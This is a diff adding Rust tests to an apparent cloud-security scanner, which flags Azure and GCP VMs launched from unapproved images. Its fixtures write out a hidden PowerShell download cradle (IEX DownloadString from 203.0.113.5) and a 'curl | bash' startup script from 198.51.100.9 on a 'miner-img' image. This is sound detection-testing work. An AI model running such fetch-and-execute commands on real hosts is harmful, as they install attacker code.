@@ -370,3 +370,122 @@ fn base64_encode(b: &[u8]) -> String {
     }
     s
 }
+
+const SUB: &str = "8a4de8b5-095c-47d0-a96f-a75130c61d53";
+
+fn azure_vm_write(secs: i64, vm: &str, image_reference: Value, computer: &str) -> Value {
+    let body = json!({"location":"westeurope","tags":{"env":"prod"},"properties":{"hardwareProfile":{"vmSize":"Standard_B2s"},
+        "storageProfile":{"imageReference":image_reference,"osDisk":{"createOption":"FromImage"}},
+        "osProfile":{"computerName":computer,"adminUsername":"azureuser"}}});
+    json!({"time":iso(T0 + secs).replace('Z', ".1234567Z"),
+        "resourceId":format!("/SUBSCRIPTIONS/{}/RESOURCEGROUPS/RG1/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/{}", SUB.to_uppercase(), vm.to_uppercase()),
+        "operationName":"MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE","category":"Administrative","resultType":"Start","resultSignature":"Started.",
+        "callerIpAddress":"198.51.100.30","correlationId":format!("c0ffee00-0000-0000-0000-{:012}", secs),
+        "identity":{"claims":{"http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn":"ops@contoso.example"}},
+        "level":"Information","location":"westeurope","properties":{"statusCode":"Created","requestbody":body.to_string()}})
+}
+
+fn sysmon(secs: i64, computer: &str, image: &str, cmd: &str, parent: &str) -> Value {
+    let utc = iso(T0 + secs).replace('T', " ").replace('Z', ".000");
+    json!({"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,
+        "TimeCreated":{"#attributes":{"SystemTime":iso(T0 + secs)}},"EventRecordID":secs,"Computer":computer,"Channel":"Microsoft-Windows-Sysmon/Operational"},
+        "EventData":{"UtcTime":utc,"ProcessGuid":format!("{{1a2b3c4d-0000-1111-2222-{:012}}}", secs),"ProcessId":4242,"Image":image,"CommandLine":cmd,
+            "User":"NT AUTHORITY\\SYSTEM","ParentProcessId":1000,"ParentImage":parent}}})
+}
+
+#[test]
+fn azure_unapproved_publisher_with_a_download_cradle_on_first_boot() {
+    let d = Dir::new();
+    let cradle = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\"";
+    let guest = d.jsonl(
+        "sysmon.jsonl",
+        &[
+            sysmon(
+                200,
+                "WEB1",
+                "C:\\Windows\\System32\\svchost.exe",
+                "svchost.exe -k netsvcs",
+                "C:\\Windows\\System32\\services.exe",
+            ),
+            sysmon(
+                300,
+                "WEB1.contoso.local",
+                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                cradle,
+                "C:\\WindowsAzure\\GuestAgent\\WaAppAgent.exe",
+            ),
+        ],
+    );
+    let shady = d.jsonl(
+        "activity.jsonl",
+        &[azure_vm_write(
+            0,
+            "vm-web1",
+            json!({"publisher":"shady-labs","offer":"win-tools","sku":"2022","version":"latest"}),
+            "web1",
+        )],
+    );
+    let vm = format!("/subscriptions/{SUB}/resourcegroups/rg1/providers/microsoft.compute/virtualmachines/vm-web1");
+    let (alerts, stdout, _) = scan(None, &d, &[&shady, &guest]);
+    assert_eq!(
+        alerts,
+        vec![format!("an0692.chain high azure {vm} shady-labs:win-tools:2022:latest [launch@activity.jsonl:1 activity@sysmon.jsonl:2]")]
+    );
+    assert!(
+        stdout.contains(
+            "marketplace publisher shady-labs is not in approved_image_catalog.azure.publishers"
+        ),
+        "{stdout}"
+    );
+    assert!(stdout.contains("download-execute"), "{stdout}");
+
+    // The same guest behaviour on an image from an approved publisher: nothing.
+    let canonical = d.jsonl(
+        "activity2.jsonl",
+        &[azure_vm_write(0, "vm-web1", json!({"publisher":"MicrosoftWindowsServer","offer":"WindowsServer","sku":"2022-datacenter","version":"latest"}), "web1")],
+    );
+    assert_eq!(
+        scan(None, &d, &[&canonical, &guest]).0,
+        Vec::<String>::new()
+    );
+}
+
+fn gcp_insert(secs: i64, id: &str, source_image: &str, startup: &str) -> Value {
+    json!({"insertId":format!("i{secs}"),"logName":"projects/p1/logs/cloudaudit.googleapis.com%2Factivity",
+        "operation":{"id":format!("operation-{secs}"),"producer":"compute.googleapis.com","first":true},
+        "protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{"principalEmail":"dev@example.com"},
+            "serviceName":"compute.googleapis.com","methodName":"v1.compute.instances.insert",
+            "resourceName":format!("projects/p1/zones/us-central1-a/instances/vm-{id}"),
+            "request":{"@type":"type.googleapis.com/compute.instances.insert","name":format!("vm-{id}"),
+                "disks":[{"boot":true,"initializeParams":{"sourceImage":source_image}}],
+                "metadata":{"items":[{"key":"startup-script","value":startup}]},
+                "networkInterfaces":[{"network":"global/networks/default","networkIP":"10.128.0.7"}]},
+            "response":{"@type":"type.googleapis.com/operation","status":"RUNNING","targetId":id}},
+        "resource":{"type":"gce_instance","labels":{"instance_id":id,"project_id":"p1","zone":"us-central1-a"}},
+        "severity":"NOTICE","timestamp":iso(T0 + secs)})
+}
+
+#[test]
+fn gcp_foreign_project_image_with_a_curl_pipe_bash_startup_script() {
+    let d = Dir::new();
+    let audit = d.jsonl(
+        "gcp.jsonl",
+        &[
+            gcp_insert(0, "1111111111111111111", "https://www.googleapis.com/compute/v1/projects/evil-proj/global/images/miner-img", "#!/bin/bash\ncurl -s http://198.51.100.9/x | bash\n"),
+            gcp_insert(60, "2222222222222222222", "projects/debian-cloud/global/images/family/debian-12", "#!/bin/bash\napt-get update\napt-get install -y nginx\nsystemctl enable --now nginx\n"),
+        ],
+    );
+    let (alerts, stdout, _) = scan(None, &d, &[&audit]);
+    assert_eq!(
+        alerts,
+        vec!["an0692.user_data high gcp 1111111111111111111 projects/evil-proj/global/images/miner-img [launch@gcp.jsonl:1]"]
+    );
+    assert!(
+        stdout.contains("project evil-proj, which is not in approved_image_catalog.gcp.projects"),
+        "{stdout}"
+    );
+    assert!(
+        stdout.contains("curl -s http://198.51.100.9/x | bash"),
+        "{stdout}"
+    );
+}
